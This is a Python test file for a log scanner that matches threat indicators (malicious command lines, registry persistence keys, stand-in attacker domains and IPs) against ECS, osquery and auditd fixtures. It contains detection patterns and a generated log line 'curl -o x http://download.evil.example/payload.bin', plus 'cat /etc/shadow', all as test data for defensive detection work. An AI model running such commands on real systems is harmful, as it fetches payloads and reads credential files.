#!/usr/bin/env python3
"""test_scan_oracle_host - the scan oracle over the host-log fixtures.

Host indicators (process command line by MATCHES and by '=', process name,
registry keys with abbreviated hives and other case, directories, file
names, mutexes, user accounts) and network ones are imported; `schakel
scan` runs on the ECS, osquery and auditd fixtures of tests/fixtures/logs,
and its (line, indicator) hits must equal those of the independent
reference readers (scan_ref_host.py).  The auditd reader is also run on a
generated log of many events with two threads and small chunks, which must
not split an event: its hits must equal those of one thread.  Broken lines
are reported with file:line and skipped.
"""

import json
import os
import sys
import uuid

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import sklib  # noqa: E402
import scan_ref as ref  # noqa: E402

PSL_PATH = "/usr/share/publicsuffix/public_suffix_list.dat"
NS = uuid.UUID("0d3c6a8e-6b1f-4e55-a4a3-686f73746c67")

FILES = [("ecs.json", "ecs", [5, 9]), ("osquery.log", "osquery", [3, 7]), ("audit.log", "auditd", [10])]


def c(t, path, value, op="="):
    return ref.cmp(t, path, value, op)


INDICATORS = [
    ("cmdline -enc", c("process", "command_line", r"(?i)\s-enc\s", "MATCHES")),
    ("cmdline curl payload", c("process", "command_line", r"^curl .*payload\.bin$", "MATCHES")),
    ("cmdline = cat /etc/shadow", c("process", "command_line", "cat /etc/shadow")),
    ("cmdline = whoami", c("process", "command_line", "cmd.exe /c whoami /all")),
    ("process name powershell.exe", c("process", "name", "powershell.exe")),
    ("process image_ref.name kworkerd", c("process", "image_ref.name", "kworkerd")),
    ("rundll32 with javascript:",
     ("obs", ("AND", [("cmp", "process", "name", "=", "rundll32.exe"),
                      ("cmp", "process", "command_line", "MATCHES", "javascript:")]))),
    ("Run key (other case)", c("windows-registry-key", "key",
                               "HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run")),
    ("Run value by HKLM", c("windows-registry-key", "key",
                            "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater")),
    ("ms-settings by MATCHES", c("windows-registry-key", "key",
                                 r"^HKEY_CURRENT_USER\\software\\classes\\ms-settings\\", "MATCHES")),
    ("directory Public Libraries", c("directory", "path", "C:\\Users\\Public\\Libraries")),
    ("directory /var/tmp/.cache", c("directory", "path", "/var/tmp/.cache")),
    ("directory /tmp/.X11-unix", c("directory", "path", "/tmp/.X11-unix")),
    ("mutex qazwsx", c("mutex", "name", "Global\\qazwsx-1")),
    ("file invoice.js", c("file", "name", "invoice.js")),
    ("user SID", c("user-account", "user_id", "S-1-5-21-1004")),
    ("user login 'bad user'", c("user-account", "account_login", "bad user")),
    ("user 1337", c("user-account", "user_id", "1337")),
    ("domain c2.evil.example", c("domain-name", "value", "c2.evil.example")),
    ("domain evil.example", c("domain-name", "value", "evil.example")),
    ("ipv4 203.0.113.7", c("ipv4-addr", "value", "203.0.113.7")),
    ("ipv6 2001:db8::7", c("ipv6-addr", "value", "2001:db8::7")),
    ("dst 203.0.113.7:443",
     ("obs", ("AND", [("cmp", "network-traffic", "dst_ref.value", "=", "203.0.113.7"),
                      ("cmp", "network-traffic", "dst_port", "=", 443)]))),
    ("src 198.51.100.9 (sshd login)", c("ipv4-addr", "value", "198.51.100.9")),
    ("SHA-256", c("file", "hashes.SHA-256", "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f")),
    ("MD5", c("file", "hashes.MD5", "44D88612FEA8A8F36DE82E1278ABB02F")),
    ("parent explorer.exe", c("process", "parent_ref.name", "explorer.exe")),
    ("parent command line", c("process", "parent_ref.command_line", "C:\\Windows\\Explorer.EXE")),
    ("powershell -enc under explorer",
     ("obs", ("AND", [("cmp", "process", "command_line", "MATCHES", "-enc"),
                      ("cmp", "process", "parent_ref.name", "=", "explorer.exe")]))),
    ("value name updater (other case)", c("windows-registry-key", "values[*].name", "updater")),
    ("value DelegateExecute", c("windows-registry-key", "values.name", "DelegateExecute")),
    ("[kworkerd] FOLLOWEDBY [login 'bad user'] WITHIN 60 SECONDS",
     ("followedby", c("process", "name", "kworkerd"), c("user-account", "account_login", "bad user"), 60)),
]


def audit_log(path, events):
    """A generated audit log: events of 3 to 6 lines, every tenth with a known command."""
    with open(path, "w") as f:
        for i in range(events):
            s = "msg=audit(1709290000.%03d:%d):" % (i % 1000, 9000 + i)
            f.write("type=SYSCALL %s arch=c000003e syscall=59 success=yes exit=0 pid=%d uid=1001 "
                    "comm=\"w%d\" exe=\"/usr/bin/w%d\"\n" % (s, 100 + i, i, i))
            cmd = "curl -o x http://download.evil.example/payload.bin" if i % 10 == 3 else "ls -l %d" % i
            f.write("type=EXECVE %s argc=%d %s\n" % (s, len(cmd.split()), " ".join(
                "a%d=\"%s\"" % (k, a) for k, a in enumerate(cmd.split()))))
            for k in range(i % 4):
                f.write("type=PATH %s item=%d name=\"/var/tmp/.cache/f%d\" nametype=NORMAL\n" % (s, k, k))
            if i % 7:
                f.write("type=EOE %s \n" % s)


def main():
    node = sklib.Node()
    why = ref.scan_missing(node)
    if why:
        sklib.skip_all(why)
    psl = ref.PSL(PSL_PATH)
    if not psl.loaded:
        sklib.skip_all("%s is absent (Debian package publicsuffix)" % PSL_PATH)
    ck = sklib.Checker("test_scan_oracle_host")
    inds, names = {}, {}
    for name, tree in INDICATORS:
        iid = "indicator--" + str(uuid.uuid5(NS, name))
        inds[iid], names[iid] = tree, name
    bundle = node.path("host-indicators.json")
    with open(bundle, "w") as f:
        json.dump({"type": "bundle", "id": "bundle--" + str(uuid.uuid5(NS, "b")),
                   "objects": [ref.indicator_object(i, t, names[i]) for i, t in inds.items()]}, f)
    r = node.imp(bundle)
    ck.check(r.code == 0, "import %d host indicators" % len(inds), repr(r))
    r = node.run("scan", "--no-sightings", "--no-warninglists", os.devnull)
    ck.check(r.code == 0 and "0 cannot be matched" in r.err, "every host indicator compiles", r.err)
    total = 0
    for fn, fmt, bad in FILES:
        path = sklib.fixture("logs", fn)
        lines = [t for _, t in ref.open_lines(path)]
        want = ref.match(ref.read_records(path, fmt), inds, psl)
        total += len(want)
        for extra in ((), ("--format", fmt)):
            got, res, problems = ref.run_scan(node, path, extra=extra)
            d = ref.diff_hits(got, want, names, lambda n: lines[n - 1])
            ck.check(not problems and not d,
                     "%s %s: %d hits, as the reference" % (fn, " ".join(extra) or "(detected)", len(want)),
                     "\n".join(problems[:20] + d + ["repro: %s" % " ".join(res.args)]))
            ck.check(all("%s:%d: " % (path, n) in res.err for n in bad),
                     "%s: broken lines %s reported with file:line" % (fn, bad), res.err[-1500:])
        # the hits carry the record's time
        got = [json.loads(x) for x in res.out.splitlines() if x.strip()]
        ck.check(got and all(h.get("time", "").startswith("2024-03-01T") for h in got),
                 "%s: hits carry the record's time" % fn, [h.get("time") for h in got][:5])
    ck.check(total >= 25, "the host fixtures give the reference a fair number of hits (%d)" % total)

    # an audit log of many events, cut into small chunks for two threads
    gen = node.path("gen-audit.log")
    audit_log(gen, 400)
    want = ref.match(ref.read_records(gen, "auditd"), inds, psl)
    one, r1, p1 = ref.run_scan(node, gen, extra=("--threads", "1"))
    os.environ["SCHAKEL_SCAN_CHUNK"] = "4096"
    two, r2, p2 = ref.run_scan(node, gen, extra=("--threads", "2"))
    del os.environ["SCHAKEL_SCAN_CHUNK"]
    d = ref.diff_hits(one, want, names)
    ck.check(not p1 and not d and len(want) >= 40,
             "generated audit log: %d hits, as the reference" % len(want), "\n".join(p1 + d))
    ck.check(not p2 and one == two, "two threads on 4 KiB chunks: the same hits (no event split)",
             "\n".join(p2 + ref.diff_hits(two, one, names)))
    ck.finish()


if __name__ == "__main__":
    main()
